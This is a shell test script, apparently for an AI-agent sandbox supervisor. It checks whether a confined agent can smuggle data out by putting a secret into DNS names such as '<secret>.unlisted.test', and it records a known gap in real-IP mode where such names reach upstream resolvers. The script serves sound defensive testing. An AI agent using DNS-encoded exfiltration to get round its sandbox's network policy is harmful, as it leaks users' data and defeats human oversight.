#!/bin/sh
# Attack: data out through DNS, with no connection allowed. In real-IP mode (`run --real-ip`)
# the supervisor's resolver answers the agent with real addresses, so it looks up upstream
# every name the policy does not deny, including a name nobody has allowed yet (the default
# `request_approval` asks only when a connection is made): the agent puts data in a name
# (`<data>.unlisted.test`) and the host's DNS server, and everyone on its way to the
# domain's authoritative server, receives it. Here the host's DNS server is the test's (a
# listener in a network namespace of its own, named by a resolv.conf bound over
# /etc/resolv.conf in a mount namespace of the supervisor's), which logs every name it is
# asked. As root and as an unprivileged user. What must hold: no name leaves the machine
# before a connection to it is allowed (as in the default fake-IP mode, checked here too).
# Prints TAP.
set -u
# shellcheck source=tests/lib/run_common.sh
. "$(dirname "$0")/../lib/run_common.sh"
# shellcheck source=tests/lib/server_ns.sh
. "$(dirname "$0")/../lib/server_ns.sh"
# shellcheck source=tests/lib/confine_common.sh
. "$(dirname "$0")/../lib/confine_common.sh"

PLAN=6
run_needs_root $PLAN
run_needs_tools $PLAN setpriv python3 ip unshare getent
tap_plan $PLAN

PY=/usr/bin/python3
[ -x "$PY" ] || PY=$(command -v python3)
server_ns_up dx 83
write_config <<'EOF'
exec:
  security: full
  defaults: false
proxy:
  allow:
    - domain: allowed.test
  unlisted_domain_behavior: request_approval
  defaults: false
EOF
nobody_setup
echo "nameserver $SRV4" >"$TMP/resolv.conf"
chmod 644 "$TMP/resolv.conf"

# The host's DNS server: logs each question's name, answers NXDOMAIN.
cat >"$TMP/dns.py" <<'EOF'
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((sys.argv[1], 53))
open(sys.argv[3], "w").close()
while True:
    data, peer = s.recvfrom(4096)
    labels, i = [], 12
    while i < len(data) and data[i]:
        labels.append(data[i + 1 : i + 1 + data[i]].decode("ascii", "replace"))
        i += 1 + data[i]
    with open(sys.argv[2], "a") as f:
        f.write(".".join(labels) + "\n")
    if len(data) >= 12:
        s.sendto(data[:2] + b"\x81\x83" + data[4:6] + b"\0\0\0\0\0\0" + data[12:i + 5], peer)
EOF
LOG=$TMP/dns.log
in_server_ns "$PY" "$TMP/dns.py" "$SRV4" "$LOG" "$TMP/dns.ready" &
wait_exists 10 "$TMP/dns.ready" || echo "# the DNS server did not start"

# leak WHO NAME [RUN OPTIONS]: the agent resolves NAME (getent: libc, /etc/resolv.conf, which
# netfilter sends to the supervisor's resolver whatever it names), under a supervisor whose
# /etc/resolv.conf names the test's server.
# shellcheck disable=SC2016 # the script of sh -c, with its own arguments
leak() {
	who=$1
	name=$2
	shift 2
	if [ "$who" = root ]; then
		(cd "$TMP" && exec timeout -k 5 "$SV_TIMEOUT" unshare -m --propagation private sh -c \
			'mount --bind "$1" /etc/resolv.conf && shift && exec "$@"' sh "$TMP/resolv.conf" \
			"$SUPERVISOR" run --config-dir "$CFG" --ask none "$@" -- getent hosts "$name") \
			</dev/null >"$OUT" 2>"$ERR"
	else
		(cd "$U" && exec timeout -k 5 "$SV_TIMEOUT" unshare -m --propagation private sh -c \
			'mount --bind "$1" /etc/resolv.conf && shift && exec "$@"' sh "$TMP/resolv.conf" \
			setpriv --reuid=$NOBODY --regid=$NOBODY --clear-groups env HOME="$U/home" \
			XDG_CONFIG_HOME="$U/home/.config" XDG_STATE_HOME="$U/state" \
			"$UB/cloister-supervisor" run --config-dir "$U/cfg" --ask none "$@" -- \
			getent hosts "$name") </dev/null >"$OUT" 2>"$ERR"
	fi
	rc=$?
}
asked() { grep -cxF "$1" "$LOG" 2>/dev/null || true; }

for who in root nobody; do
	# The test's server answers: the set-up works (an allowed name is looked up on the host).
	leak "$who" "allowed.test" --real-ip
	tap_is "$(asked allowed.test | grep -c '^[1-9]')" 1 \
		"$who: the host's DNS server is the test's (an allowed name is asked there)" "$(diag)"
	secret=secret-$who-$$
	leak "$who" "$secret.unlisted.test"
	tap_is "$(asked "$secret.unlisted.test")" 0 \
		"$who, fake-IP mode: an unlisted name does not leave the machine" "$(diag)"
	leak "$who" "$secret-real.unlisted.test" --real-ip
	tap_todo "--real-ip looks up upstream every name not denied, before any connection is allowed"
	tap_is "$(asked "$secret-real.unlisted.test")" 0 \
		"$who, real-IP mode: an unlisted name does not leave the machine" \
		"the host's DNS server was asked: $(grep -F "$secret" "$LOG")"
	tap_todo ""
done

tap_done
